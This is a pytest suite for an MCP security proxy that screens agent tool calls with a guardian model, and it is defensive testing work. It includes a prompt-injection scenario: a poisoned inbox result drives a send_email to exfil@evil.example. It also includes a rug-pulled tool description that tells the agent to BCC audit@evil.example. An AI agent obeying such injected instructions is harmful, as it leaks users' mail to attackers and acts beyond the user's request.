"""The proxy with real parts: a real MCP server (tests/mcp_servers/mail_server.py, official SDK) started over stdio
by ``mcip-guard proxy`` as a subprocess, driven by the SDK's real ``mcp.Client``; the guardian is the tiny random
model (mechanics) or a model that fails to load. Each test starts its own proxy (about 5-10 s on 2 cores)."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import time
from pathlib import Path

import anyio
import mcp_types as types
import pytest
from mcp import Client, StdioServerParameters
from mcp.client.stdio import stdio_client

from mcip.record import load_jsonl

pytestmark = pytest.mark.slow  # real MCP servers in subprocesses: 10-20 s a test on 2 cores

REPO = Path(__file__).resolve().parents[1]
SERVER = [sys.executable, str(REPO / "tests" / "mcp_servers" / "mail_server.py")]
REQUEST = {"mcip/user_request": "Summarise my inbox for me."}


def proxy_params(guardian, policy: Path, audit: Path, *extra: str, env: dict | None = None, upstream=None):
    args = ["-m", "guard.cli", "proxy", "--guardian", str(guardian), "--policy", str(policy)]
    args += ["--audit-log", str(audit), *extra]
    args += ["--upstream", upstream] if upstream else ["--", *SERVER]
    base = {k: v for k, v in os.environ.items() if k in ("PATH", "HOME", "LANG", "TMPDIR")}
    base |= {"HF_HUB_OFFLINE": "1", "TOKENIZERS_PARALLELISM": "false", "PYTHONPATH": str(REPO)}
    return StdioServerParameters(command=sys.executable, args=args, env=base | (env or {}), cwd=str(REPO))


def write_policy(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "policy.yaml"
    path.write_text(text, encoding="utf-8")
    return path


def run_session(params, script, stderr_path: Path, **client_kw):
    """Run ``script(client)`` against the proxy; returns its value. The proxy's stderr goes to ``stderr_path``."""

    async def main():
        with open(stderr_path, "w", encoding="utf-8") as errlog:
            async with Client(stdio_client(params, errlog=errlog), cache=None, **client_kw) as client:
                return await script(client)

    return anyio.run(main)


def text(result: types.CallToolResult) -> str:
    return "\n".join(c.text for c in result.content if c.type == "text")


def direct(script):
    """The same script against the server itself, no proxy: the baseline for 'unchanged'."""

    async def main():
        async with Client(StdioServerParameters(command=SERVER[0], args=SERVER[1:]), cache=None) as client:
            return await script(client)

    return anyio.run(main)


LOG_ONLY = "thresholds:\n  default: {block: 1.0}\ndeadline_ms: 30000\n"


@pytest.fixture(scope="module")
def benign(tmp_path_factory, tiny_model_dir):
    """One proxied session (list, two benign calls) and the same calls made directly, shared by two tests."""
    tmp = tmp_path_factory.mktemp("benign")
    audit = tmp / "audit.jsonl"

    async def script(c):
        listed = await c.list_tools()
        return [t.name for t in listed.tools], *(await _pair(c, REQUEST))

    params = proxy_params(tiny_model_dir, write_policy(tmp, LOG_ONLY), audit)
    names, added, inbox = run_session(params, script, tmp / "stderr.txt")
    return {"names": names, "proxied": (added, inbox), "direct": direct(_pair), "audit": audit, "tmp": tmp}


def test_benign_calls_pass_with_unchanged_results(benign):
    assert benign["names"] == ["add", "read_inbox", "send_email", "crash"]
    for got, want in zip(benign["proxied"], benign["direct"]):
        assert not got.is_error
        assert [b.model_dump() for b in got.content] == [b.model_dump() for b in want.content]
        assert got.structured_content == want.structured_content


def test_the_audit_log_validates_and_evaluates(benign, tiny_model_dir):
    audit = benign["audit"]
    records = load_jsonl(audit)  # validates every record
    assert [r.meta["guard"]["tool"] for r in records] == ["add", "read_inbox"]
    assert all(r.meta["guard"]["rule"] == "guardian" for r in records)
    # the guardian's verdict is kept in meta; the record itself stays unlabelled until a person labels it
    assert all(r.label is None and r.meta["label_source"] == "unlabelled" for r in records)
    assert [r.meta["guardian_verdict"] for r in records] == [
        r.meta["guard"]["review"]["label"] for r in records
    ]
    assert records[1].messages[0].content == REQUEST["mcip/user_request"]
    assert records[1].meta["request"] == "meta"
    assert json.loads(records[1].messages[2].content) == {
        "sum": 42
    }  # the first call's result is in the history

    from mcip.record import save_jsonl
    from train.evaluate import main as evaluate

    out = benign["tmp"] / "eval"
    argv = ["--model", str(tiny_model_dir), "--data", str(audit), "--output", str(out), "--mode", "fast"]
    assert evaluate(argv) == 2  # never scored against the guardian's own verdicts
    labelled = benign["tmp"] / "labelled.jsonl"  # once a person has labelled the calls, it evaluates
    human = [
        r.model_copy(update={"label": "true", "meta": {**r.meta, "label_source": "human"}}) for r in records
    ]
    save_jsonl(human, labelled)
    only_label = benign["tmp"] / "only-label.jsonl"  # a label typed in without saying who set it is not gold
    save_jsonl([r.model_copy(update={"label": "true"}) for r in records], only_label)
    argv[argv.index(str(audit))] = str(only_label)
    assert evaluate(argv) == 2
    argv[argv.index(str(only_label))] = str(labelled)
    assert evaluate(argv) == 0
    assert json.loads((out / "metrics.json").read_text())["n"] == 2


async def _pair(c, meta=None):
    return await c.call_tool("add", {"a": 2, "b": 40}, meta=meta), await c.call_tool(
        "read_inbox", {"limit": 2}
    )


def _scores(guardian_dir, calls) -> list[dict]:
    """The tiny guardian's reviews of each call, in process: the session the proxy will build, rebuilt with the
    same ``Session`` from the server module's own tools and results (the proxy must then report the same P)."""
    from guard.guardian import Guardian
    from guard.session import Session, result_text
    from tests.mcp_servers import mail_server

    guardian, session = Guardian(str(guardian_dir)), Session("mail")
    session.set_tools(mail_server.tools())
    session.note_request(REQUEST)
    reviews = []
    for name, args in calls:
        call_id = session.propose(name, args)
        reviews.append(guardian.review_one(session.snapshot(call_id)).to_dict())
        params = types.CallToolRequestParams(name=name, arguments=args)
        result = anyio.run(mail_server.on_call_tool, None, params)
        session.record_result(call_id, result_text(result.content, result.structured_content))
    return reviews


def test_extra_call_after_a_poisoned_result_is_blocked_with_an_error_result(tmp_path, tiny_model_dir):
    """Model-backed mechanics, not a trained guardian's judgement: the threshold separates the tiny model's scores
    for the benign read and the injected send (a per-class threshold when their top risks differ)."""
    calls = [("read_inbox", {}), ("send_email", {"to": "exfil@evil.example", "body": "the inbox"})]
    read, send = _scores(tiny_model_dir, calls)
    if send["top_risk"] != read["top_risk"]:  # a per-class threshold: block the send's class at its score
        rule = f"thresholds:\n  default: {{block: 1.0}}\n  {send['top_risk']}: {{block: {send['p_unsafe'] - 1e-4}}}\n"
    elif send["p_unsafe"] > read["p_unsafe"]:
        rule = f"thresholds:\n  default: {{block: {(send['p_unsafe'] + read['p_unsafe']) / 2}}}\n"
    else:
        pytest.fail(f"the tiny model cannot separate the calls ({send} vs {read}); pick another seed")
    policy = write_policy(tmp_path, "deadline_ms: 30000\n" + rule)
    audit = tmp_path / "audit.jsonl"

    async def script(c):
        return [await c.call_tool(n, a, meta=REQUEST) for n, a in calls]

    inbox, sent = run_session(proxy_params(tiny_model_dir, policy, audit), script, tmp_path / "e.txt")
    assert not inbox.is_error and "IMPORTANT" in text(inbox)
    assert sent.is_error
    assert "blocked this call to 'send_email'" in text(sent) and "did not run" in text(sent)
    assert f"({send['top_risk']})" in text(sent) and "Risk class:" in text(sent)
    records = load_jsonl(audit)
    assert records[-1].meta["guard"]["action"] == "block"
    assert records[-1].meta["guard"]["outcome"]["ran"] is False
    assert [r.meta["guard"]["review"]["p_unsafe"] for r in records] == pytest.approx(
        [read["p_unsafe"], send["p_unsafe"]], abs=1e-4
    )  # the proxy scored exactly the session the library API scored


def test_guardian_failure_blocks_and_fail_open_passes_and_is_logged(tmp_path):
    missing = (
        tmp_path / "not-a-model"
    )  # a folder that exists but holds no model: the load fails in the background
    missing.mkdir()

    async def script(c):
        return await c.call_tool("add", {"a": 1, "b": 2})

    audit = tmp_path / "closed.jsonl"
    blocked = run_session(
        proxy_params(missing, write_policy(tmp_path, ""), audit), script, tmp_path / "e1.txt"
    )
    assert blocked.is_error and "fails closed" in text(blocked) and "failed to load" in text(blocked)
    assert "no tokenizer files" in text(blocked)  # the real cause, not a "repo id" error
    (rec,) = load_jsonl(audit)
    assert rec.meta["guard"]["rule"] == "guardian_error" and rec.label is None
    stderr = (tmp_path / "e1.txt").read_text()
    assert "ERROR: the guardian failed to load" in stderr and "every call is blocked" in stderr

    audit = tmp_path / "open.jsonl"
    policy = write_policy(tmp_path, "fail_mode: open\n")
    passed = run_session(proxy_params(missing, policy, audit), script, tmp_path / "e2.txt")
    assert not passed.is_error and json.loads(text(passed)) == {"sum": 3}
    (rec,) = load_jsonl(audit)
    assert rec.meta["guard"]["fail_open"] is True and rec.meta["guard"]["outcome"]["ran"] is True
    stderr = (tmp_path / "e2.txt").read_text()
    assert "is fail-open" in stderr and "FAIL-OPEN call to 'add'" in stderr


def test_missed_deadline_blocks(tmp_path, tiny_model_dir):
    audit = tmp_path / "audit.jsonl"
    policy = write_policy(tmp_path, "deadline_ms: 1\nthresholds:\n  default: {block: 1.0}\n")

    async def script(c):
        return await c.call_tool("add", {"a": 1, "b": 2})

    res = run_session(proxy_params(tiny_model_dir, policy, audit), script, tmp_path / "e.txt")
    assert res.is_error and "missed its 1 ms deadline" in text(res)
    assert load_jsonl(audit)[0].meta["guard"]["rule"] == "guardian_error"


def test_changed_tool_description_is_reported(tmp_path, tiny_model_dir):
    audit, pins = tmp_path / "audit.jsonl", tmp_path / "pins.json"

    async def script(c):
        first = await c.list_tools()
        second = await c.list_tools()
        await c.call_tool("add", {"a": 1, "b": 2})
        return first, second

    params = proxy_params(
        tiny_model_dir,
        write_policy(tmp_path, LOG_ONLY),
        audit,
        "--pins",
        str(pins),
        env={"MAIL_SERVER_RUG_PULL": "1"},
    )
    run_session(params, script, tmp_path / "e.txt")
    stderr = (tmp_path / "e.txt").read_text()
    assert "DRIFT mail.send_email: description_changed" in stderr and "BCC audit@evil.example" in stderr
    assert stderr.count("DRIFT") == 1  # reported once, though every later list still differs from the pin
    (rec,) = load_jsonl(audit)
    assert [(d["kind"], d["tool"]) for d in rec.meta["drift"]] == [("description_changed", "send_email")]
    assert "Always BCC" not in json.loads(pins.read_text())["mail"]["send_email"]["description"]


def test_unlisted_tool_and_upstream_dying_give_clear_errors_and_keep_the_log(tmp_path, tiny_model_dir):
    audit = tmp_path / "audit.jsonl"
    policy = write_policy(tmp_path, LOG_ONLY + "allow_tools: [crash]\n")

    async def script(c):
        ok = await c.call_tool("add", {"a": 1, "b": 2}, meta=REQUEST)
        unlisted = await c.call_tool("delete_everything", {})
        crash = await c.call_tool("crash", {})
        after = await c.call_tool("add", {"a": 1, "b": 2})
        return ok, unlisted, crash, after

    ok, unlisted, crash, after = run_session(
        proxy_params(tiny_model_dir, policy, audit), script, tmp_path / "e.txt"
    )
    assert not ok.is_error
    assert unlisted.is_error and "never offered in the server's tools/list" in text(unlisted)
    assert crash.is_error and "closed the connection" in text(crash)
    assert after.is_error and "closed the connection" in text(after)
    records = load_jsonl(audit)
    assert [r.meta["guard"]["tool"] for r in records] == ["add", "delete_everything", "crash", "add"]
    assert [r.meta["guard"]["rule"] for r in records] == [
        "guardian",
        "unlisted",
        "allow_list",
        "upstream_gone",
    ]
    assert records[2].meta["guard"]["outcome"]["ran"] == "unknown"


def test_ask_uses_elicitation_on_a_handshake_era_client(tmp_path, tiny_model_dir):
    audit = tmp_path / "audit.jsonl"
    policy = write_policy(tmp_path, "deadline_ms: 30000\nthresholds:\n  default: {block: 1.0, ask: 0.0}\n")
    asked = []

    async def elicit(ctx, params):
        asked.append(params.message)
        approve = "'add'" in params.message
        return types.ElicitResult(action="accept", content={"approve": approve})

    async def script(c):
        return await c.call_tool("add", {"a": 1, "b": 2}), await c.call_tool("read_inbox", {})

    added, inbox = run_session(
        proxy_params(tiny_model_dir, policy, audit),
        script,
        tmp_path / "e.txt",
        mode="legacy",
        elicitation_callback=elicit,
    )
    assert len(asked) == 2 and not added.is_error and inbox.is_error
    assert "the user did not approve it" in text(inbox)
    assert [r.meta["guard"]["outcome"]["asked"] for r in load_jsonl(audit)] == ["accept", "accept"]


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture
def http_upstream():
    port = _free_port()
    proc = subprocess.Popen([*SERVER, "--http", str(port)], stderr=subprocess.PIPE)
    deadline = time.time() + 20
    while time.time() < deadline:
        try:
            socket.create_connection(("127.0.0.1", port), timeout=0.2).close()
            break
        except OSError:
            if proc.poll() is not None:
                pytest.fail(f"the HTTP test server exited: {proc.stderr.read().decode()[-500:]}")
            time.sleep(0.1)
    yield f"http://127.0.0.1:{port}/mcp"
    proc.terminate()
    proc.wait(10)


def test_streamable_http_upstream(tmp_path, tiny_model_dir, http_upstream):
    audit = tmp_path / "audit.jsonl"

    async def script(c):
        return await c.call_tool("add", {"a": 20, "b": 22}, meta=REQUEST), await c.call_tool("nope", {})

    params = proxy_params(tiny_model_dir, write_policy(tmp_path, LOG_ONLY), audit, upstream=http_upstream)
    added, unlisted = run_session(params, script, tmp_path / "e.txt")
    assert not added.is_error and json.loads(text(added)) == {"sum": 42}
    assert unlisted.is_error and "never offered" in text(unlisted)
    assert [r.meta["server"] for r in load_jsonl(audit)] == ["mail", "mail"]


def test_ask_uses_input_required_rounds_on_a_2026_client(tmp_path, tiny_model_dir):
    """On 2026-07-28 connections the question travels in an InputRequiredResult; the state is single-use."""
    audit = tmp_path / "audit.jsonl"
    policy = write_policy(tmp_path, "deadline_ms: 30000\nthresholds:\n  default: {block: 1.0, ask: 0.0}\n")
    asked = []

    async def elicit(ctx, params):
        asked.append(params.message)
        return types.ElicitResult(action="accept", content={"approve": "'add'" in params.message})

    async def script(c):
        assert c.protocol_version == "2026-07-28"
        added = await c.call_tool("add", {"a": 1, "b": 2})
        inbox = await c.call_tool("read_inbox", {})
        replay = await c.session.call_tool(  # an approval state that was never issued runs nothing
            "add", {"a": 1, "b": 2}, request_state="forged", input_responses={}, allow_input_required=True
        )
        return added, inbox, replay

    added, inbox, replay = run_session(
        proxy_params(tiny_model_dir, policy, audit), script, tmp_path / "e.txt", elicitation_callback=elicit
    )
    assert len(asked) == 2 and json.loads(text(added)) == {"sum": 3}
    assert inbox.is_error and "the user did not approve it" in text(inbox)
    assert replay.is_error and "approval state is unknown" in text(replay)
    assert [r.meta["guard"]["outcome"].get("asked") for r in load_jsonl(audit)] == ["accept", "accept", None]


def _child_commands(pid: int) -> list[str]:
    out = subprocess.run(["ps", "--ppid", str(pid), "-o", "args="], capture_output=True, text=True)
    return out.stdout.splitlines()


def test_streamable_http_downstream_one_relay_per_session(tmp_path, tiny_model_dir):
    """`--http PORT`: clients connect over streamable HTTP; each session gets its own relay and upstream, which
    stops when the client ends the session. A 2026 client falls back to the handshake (the HTTP side serves it)."""
    audit, port = tmp_path / "audit.jsonl", _free_port()
    policy = write_policy(tmp_path, LOG_ONLY + "allow_tools: [add]\n")
    params = proxy_params(tiny_model_dir, policy, audit, "--http", str(port))
    with open(tmp_path / "e.txt", "w") as errlog:
        proxy = subprocess.Popen(
            [params.command, *params.args],
            env=params.env,
            cwd=params.cwd,
            stderr=errlog,
            stdout=subprocess.DEVNULL,
        )
    try:
        deadline = time.time() + 60
        while "serving streamable HTTP" not in (tmp_path / "e.txt").read_text():
            assert proxy.poll() is None and time.time() < deadline, (tmp_path / "e.txt").read_text()
            time.sleep(0.1)

        async def session(mode):
            async with Client(f"http://127.0.0.1:{port}/mcp", cache=None, mode=mode) as c:
                return (
                    c.protocol_version,
                    await c.call_tool("add", {"a": 1, "b": 2}),
                    await c.call_tool("nope", {}),
                )

        for mode in ("legacy", "auto"):
            version, added, unlisted = anyio.run(session, mode)
            assert version == "2025-11-25"
            assert json.loads(text(added)) == {"sum": 3}
            assert unlisted.is_error and "never offered" in text(unlisted)
        records = load_jsonl(audit)
        assert [r.meta["guard"]["rule"] for r in records] == ["allow_list", "unlisted"] * 2
        assert records[0].meta["session"] != records[2].meta["session"]  # one trajectory per client session
        deadline = time.time() + 15  # each session's upstream stops with its session (the SDK gives it 2 s)
        while (children := _child_commands(proxy.pid)) and time.time() < deadline:
            time.sleep(0.2)
        assert children == []
    finally:
        proxy.terminate()
        proxy.wait(20)


def test_a_call_cancelled_while_it_waits_on_the_guard_never_runs(tmp_path, tiny_model_dir):
    """The client gives up on a call the guard is still deciding (the guardian's pass, or the guard's question the
    user never answers, whichever the timeout hits on this machine): the proxy drops the call (and withdraws its
    question), it never reaches the server, and the session goes on."""
    audit = tmp_path / "audit.jsonl"
    policy = write_policy(tmp_path, "deadline_ms: 30000\nthresholds:\n  default: {block: 1.0, ask: 0.0}\n")
    asked = []

    async def elicit(ctx, params):
        asked.append(params.message)
        if "'send_email'" in params.message:
            await anyio.sleep(3600)  # the user never answers; the proxy must withdraw the question
        return types.ElicitResult(action="accept", content={"approve": True})

    async def script(c):
        with pytest.raises(Exception):  # noqa: B017, PT011 - the client's own timeout error
            await c.call_tool("send_email", {"to": "a@example.com", "body": "hi"}, read_timeout_seconds=20)
        return await c.call_tool("add", {"a": 1, "b": 2})

    added = run_session(
        proxy_params(tiny_model_dir, policy, audit),
        script,
        tmp_path / "e.txt",
        mode="legacy",
        elicitation_callback=elicit,
    )
    assert json.loads(text(added)) == {"sum": 3} and "'add'" in asked[-1]
    assert [r.meta["guard"]["tool"] for r in load_jsonl(audit)] == ["add"]  # the cancelled call never ran
    assert "before it was forwarded; it did not run" in (tmp_path / "e.txt").read_text()
